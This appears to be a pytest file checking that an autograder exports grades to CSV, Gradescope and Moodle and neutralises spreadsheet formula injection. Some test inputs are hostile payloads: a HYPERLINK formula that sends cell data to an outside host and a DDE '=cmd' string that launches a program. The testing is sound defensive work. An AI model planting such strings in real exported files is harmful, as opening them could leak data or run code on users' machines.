"""Files of our own: a table for people, one for Moodle's gradebook, and a document a student for an autograder."""

import csv
import json
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checker.document.tables import safe
from checker.lms.gradebooks import ExportError, QuestionGrade
from checker.lms.systems import GRADEBOOKS
from checker.lms.systems.moodle import NO_CELL
from tests.lms.importers import tables
from tests.lms.importers.moodle import Gradebook, RefusedError, from_table
from tests.lms.people import POINTS, grade, only_file, request

QUESTIONS = (
    QuestionGrade("encoder", "Encoder layer", 0.75, 1.0, "partial", "Not quite.\r\nCheck W_O."),
    QuestionGrade("essay", "", None, 2.0, "needs_review"),
)
DONE = tuple(question._replace(points=question.points or 0.5) for question in QUESTIONS)
PEOPLE = st.lists(
    st.tuples(st.text(max_size=8), st.text(max_size=8), POINTS), max_size=5, unique_by=lambda each: each[0]
)


@pytest.mark.parametrize(("name", "more", "message"), [
    ("canvas", {}, "canvas fills in a file that you download from the LMS; name it with --into FILE"),
    ("csv", {"into": b""}, "csv writes a new file; leave out --into, --column and --scale"),
    ("moodle-gradebook", {"scale": True}, "moodle-gradebook writes a new file; leave out --into, --column and --scale"),
    ("gradescope", {"column": "x"}, "gradescope writes a new file; leave out --into, --column and --scale"),
])  # fmt: skip
def test_a_wrong_request_is_an_error(name, more, message):
    with pytest.raises(ExportError) as error:
        GRADEBOOKS[name].export(request(grade("a", 1.0), **more))
    assert str(error.value) == message


def test_csv_has_a_row_for_each_student_and_a_column_for_each_question():
    exported = GRADEBOOKS["csv"].export(request(
        grade("a", None, name="=Ana", email="a@x", section="A", questions=QUESTIONS, max_points=3.0, comment="-good"),
        grade("b", None, max_points=3.0, handed_in=False),
        grade("c", 10 / 3, max_points=4.0, questions=QUESTIONS, is_provisional=True),
    ))  # fmt: skip
    assert only_file(exported).decode() == (
        "student,name,email,section,points,max_points,encoder,essay,handed_in,provisional,comment\r\n"
        "a,'=Ana,a@x,A,,3,0.75,,yes,no,'-good\r\n"
        "b,,,,,3,,,no,no,\r\n"
        "c,,,,3.33333,4,0.75,,yes,yes,\r\n"
    )
    assert exported.notes == (
        "Blank, because an answer is still to review: =Ana (a).",
        "Blank, because nothing was handed in: b.",
        "A sum so far, because an answer is still to review: c.",
    )
    assert exported.changed == 1


@given(PEOPLE)
def test_csv_holds_any_text(people):
    exported = GRADEBOOKS["csv"].export(request(*(grade(id_, points, name=name) for id_, name, points in people)))
    rows = list(csv.DictReader(StringIO(only_file(exported).decode(), newline="")))
    assert [(row["student"], row["name"]) for row in rows] == [(safe(id_), safe(name)) for id_, name, _ in people]
    points = [row["points"] and float(row["points"]) for row in rows]
    assert points == ["" if each is None else each for *_, each in people]


def gradescope(*grades, **more):
    exported = GRADEBOOKS["gradescope"].export(request(*grades, **more))
    return exported, {file: json.loads(data) for file, data in exported.files.items()}


def test_gradescope_shows_a_finished_result():
    finished = grade("a", 1.25, max_points=3.0, questions=DONE, comment="Late: 1 point less")
    exported, files = gradescope(finished)
    assert files == {"a.json": {
        "score": 1.25, "output": "Late: 1 point less", "output_format": "text", "visibility": "visible", "stdout_visibility": "hidden",
        "tests": [
            {"name": "Encoder layer", "name_format": "text", "score": 0.75, "max_score": 1, "output": "Not quite.\nCheck W_O.", "output_format": "text"},
            {"name": "essay", "name_format": "text", "score": 0.5, "max_score": 2, "output": "", "output_format": "text"},
        ],
    }}  # fmt: skip
    assert (exported.notes, exported.changed) == ((), 1)


def test_gradescope_hides_a_result_with_an_answer_to_review_until_grades_are_published():
    waiting, absent = grade("a", None, questions=QUESTIONS, so_far=0.75), grade("b", None, handed_in=False)
    exported, files = gradescope(waiting, absent)
    assert list(files) == ["a.json"]
    assert (files["a.json"]["score"], files["a.json"]["visibility"]) == (0.75, "after_published")
    assert files["a.json"]["tests"][1] == {
        "name": "essay", "name_format": "text", "max_score": 2, "output": "An instructor will grade this answer.", "output_format": "text",
    }  # fmt: skip
    assert exported.notes == (
        "Hidden from the student until grades are published, because an answer is still to review: a.",
        "No file, because nothing was handed in: b.",
    )


def moodle(*grades, **more):
    return GRADEBOOKS["moodle-gradebook"].export(request(*grades, **more))


def test_only_students_with_a_grade_get_a_row_in_the_table_for_moodle():
    found = moodle(
        grade("s1", 8.5, email="a@uni.edu"),
        grade("s2", None, email="b@uni.edu"),
        grade("s3", None, handed_in=False, email="c@x"),
    )
    assert found.files == {"moodle-gradebook.csv": b"Email address,Homework 1\r\na@uni.edu,8.5\r\n"}
    assert from_table(only_file(found), Gradebook({"a@uni.edu": 1, "b@uni.edu": 2}, {2: 4.0})) == {1: 8.5, 2: 4.0}
    assert found.notes == (
        "Left out, because an answer is still to review: s2.",
        "Left out, because nothing was handed in: s3.",
    )
    assert found.steps[2] == "3. Under Identify user by, map from Email address to Email address."


def test_grades_that_would_undo_the_whole_import_are_left_out():
    found = moodle(grade("a", 101.0, max_points=200), grade("b", 100.0, max_points=200), grade("c", -1.0))
    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["b", "100"]]
    assert found.notes == ("Left out, because Moodle refuses all grades if one is not from 0 to 100: a; c.",)
    with pytest.raises(RefusedError, match="gradevaluetoobig"):
        from_table(b"ID number,x\na,101\n", Gradebook({"a": 1}))


@pytest.mark.parametrize(
    "id_", [" ", "0", " a", '=HYPERLINK("http://x.example/?"&A1)', "+1", "@x", "＝1", "\u202es1", "a\x1b[2Jb"]
)
def test_an_id_that_moodle_or_a_spreadsheet_would_not_take_for_itself_is_left_out(id_):
    found = moodle(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
    assert from_table(only_file(found), Gradebook({"a": 1, "c": 3})) == {1: 1.0, 3: 3.0}
    assert found.notes[0].startswith(f"{NO_CELL}: ")
    assert found.changed == 2


def test_the_table_for_moodle_has_email_addresses_if_all_differ():
    found = moodle(grade("a", 1.0, email="x@uni.edu"), grade("b", 2.0, email="X@uni.edu"))
    assert only_file(found) == b"ID number,Homework 1\r\na,1\r\nb,2\r\n"
    assert "map from ID number to ID number or Username, whichever your ids are" in found.steps[2]


def test_the_title_is_no_formula():
    found = moodle(grade("a", 1.0), title="=cmd|' /C calc'!A0")
    assert only_file(found) == b"ID number,'=cmd|' /C calc'!A0\r\na,1\r\n"
